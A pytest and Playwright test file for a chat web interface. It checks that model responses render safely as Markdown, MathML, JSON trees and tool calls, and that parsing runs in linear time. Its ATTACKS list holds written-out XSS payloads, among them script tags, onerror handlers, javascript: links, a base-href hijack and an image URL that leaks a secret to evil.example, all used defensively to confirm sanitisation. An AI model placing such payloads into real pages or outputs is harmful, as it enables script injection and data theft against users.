"""Responses as Markdown, formulas, JSON and tool calls; the text of a model never becomes markup."""

import pytest
from chat_page import ChatPage, ExecutedBlocks, reload_and_count
from playwright.sync_api import expect

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a> <style>body{display:none}</style>",
    "[click](javascript:alert(1)) [b](  JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/leak.png?q=secret) ![y](x\"onerror=\"alert(1))",
    "[x](https://good.example/\"onmouseover=\"alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "$\\text{<img src=x onerror=alert(1)>}$ $$\\href{javascript:alert(1)}{x}$$ $<script>alert(1)</script>$",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<think><img src=x onerror=alert(1)></think><base href='https://evil.example/'>",
    '<tool_call>{"name": "<img src=x onerror=alert(1)>", "arguments": {"<script>": "<script>alert(1)</script>"}}</tool_call>',
    "<https://good.example/<script>> <javascript:alert(1)>",
    "> - 1. <object data=x></object><embed src=x><form action=x><input autofocus onfocus=alert(1)></form>",
]
ALLOWED = set("""div p h3 h4 h5 h6 ul ol li table thead tbody tr th td pre code span strong em del a blockquote hr br details summary button
svg path math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd article""".split())


@pytest.fixture
def chat(server, visit):
    return ChatPage(visit(server.url))


def test_model_output_never_becomes_markup(chat):
    for attack in [*ATTACKS, "\n\n".join(ATTACKS)]:
        chat.answer_with(attack)
        chat.send("attack")
        chat.wait_for_answer()
        elements = chat.answers.last.locator("article").evaluate("""node => [...node.querySelectorAll('*')].map(e =>
            [e.localName, [...e.attributes].map(a => [a.name, a.value])])""")
        for name, attributes in elements:
            assert name in ALLOWED, f"{attack!r} made <{name}>"
            for attribute, value in attributes:
                assert not attribute.startswith("on") and attribute not in ("src", "srcdoc", "style"), attack
                if attribute == "href":
                    assert value.startswith(("http://", "https://", "mailto:")), attack
        chat.page.unroute("**/v1/chat/completions")
    assert chat.page.evaluate("document.baseURI").startswith(chat.page.url.split("#")[0])


def test_a_title_of_markup_stays_text(chat):
    chat.answer_with("Fine.")
    chat.ask("<img src=x onerror=alert(1)>")
    expect(chat.page.locator(".conversation-list a")).to_have_text(["<img src=x onerror=alert(1)>"])
    assert chat.page.locator("main img, .conversation-list img").count() == 0


def test_markdown_becomes_headings_lists_tables_and_code(chat):
    chat.answer_with("# Title\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n1. one\n2. two\n   - nested\n\n- [x] done\n\n"
                     "| a | b |\n|:-:|--:|\n| 1 | `x|y` |\n\n```python\ndef f(x):\n    return x  # same\n```\n\n> quoted\n\n---\n")
    chat.send("markdown")
    chat.wait_for_answer()
    body = chat.answers.first.locator(".markdown").last
    expect(body.locator(".md-h1")).to_have_text("Title")
    expect(body.locator("em, strong, del, p > code")).to_have_text(["em", "strong", "gone", "code"])
    expect(body.locator("ol > li")).to_have_count(2)
    expect(body.locator("ol ul li")).to_have_text("nested")
    expect(body.get_by_role("img", name="done")).to_be_visible()
    expect(body.locator("td")).to_have_text(["1", "x|y"])
    expect(body.locator("pre")).to_have_text("def f(x):\n    return x  # same")
    expect(body.locator(".hl-keyword")).to_have_text(["def", "return"])
    expect(body.locator("blockquote")).to_have_text("quoted")


def test_formulas_become_mathml(chat):
    chat.answer_with(r"Inline $\frac{a}{b}$ and \(x_1^2\); it costs $5 and $10." "\n\n" r"$$\sum_{i=0}^n \sqrt{i} = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$$"
                     "\n\n" r"Broken: $\frac{a}{$")
    chat.send("formula")
    chat.wait_for_answer()
    body = chat.answers.first.locator(".markdown").last
    expect(body.locator("math mfrac")).to_have_count(1)
    expect(body.locator("math msubsup")).to_have_count(1)
    expect(body.locator("math munderover")).to_have_count(1)
    expect(body.locator("math mtd")).to_have_text(["1", "2", "3", "4"])
    expect(body.locator("p").first).to_contain_text("it costs $5 and $10.")
    expect(body.locator("p").last).to_contain_text(r"\frac{a}{")


def test_reasoning_is_folded(chat):
    chat.answer_with("<think>Let me *think*.</think>The answer is 4.")
    assert chat.ask("2+2?") == "The answer is 4."
    details = chat.answers.first.locator(".reasoning")
    expect(details.locator(".reasoning-text")).not_to_be_visible()
    details.locator("summary").click()
    expect(details.locator(".reasoning-text")).to_have_text("Let me think.")


def test_json_and_tool_calls_are_trees(chat):
    chat.answer_with('{"city": "Paris", "temperature": [21.5, null, true]}')
    chat.send("json")
    chat.wait_for_answer()
    expect(chat.answers.first.locator(".json-key")).to_have_text(["city", "temperature", "0", "1", "2"])
    chat.answers.first.get_by_role("button", name="Show source").click()
    expect(chat.answers.first.locator("pre")).to_contain_text('{"city": "Paris"')
    chat.page.unroute("**/v1/chat/completions")
    chat.answer_with('<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n</tool_call>')
    chat.send("tool")
    chat.wait_for_answer()
    expect(chat.answers.last.locator(".tool-head code")).to_have_text("get_weather")
    expect(chat.answers.last.locator(".json-string")).to_have_text('"Paris"')


def test_a_long_response_is_rendered_once_per_frame(chat, server):
    """Not once per chunk: a response that arrives at once is shown at once."""
    chat.answer_with("A paragraph with `code` and $x^2$ and **emphasis**.\n\n" * 300)
    executed = ExecutedBlocks(chat.page)
    chat.page.reload()
    chat.ask("long")
    chunks = 300 * 53 // 50
    assert 0 < executed.take()["markdown.js", "update"] < chunks / 10


# Repeated, these are texts that a parser can need quadratic time for.
REPEATED = ["A paragraph with `code` and $x^2$ and **emphasis**.\n\n", "[", "*", "_a", "`", "[a](", "- a\n", "> ", "| a ", "$x", "\\(", "**a*", "<", "1. a\n\n", "![",
            "***a_", "[*a"]


def test_rendering_executes_a_linear_number_of_steps(server, visit):
    page = visit(server.url).page
    executed = reload_and_count(page)

    def steps(text):
        executed.take()
        page.evaluate("""async text => {
            const { MarkdownView } = await import('/ui/markdown.js');
            new MarkdownView(document.createElement('div')).update(text);
        }""", text)
        counts = executed.take()
        return sum(counts[script] for script in ("markdown.js", "inline.js", "math.js", "dom.js"))

    for text in REPEATED:
        # Both are longer than MAX_SPAN of inline.js, from where on the steps are linear. Quadratic ones would be four times as many.
        few, many = (steps(text * (size // len(text))) for size in (5000, 10_000))
        assert many < 3.2 * few + 1000, (text, few, many)
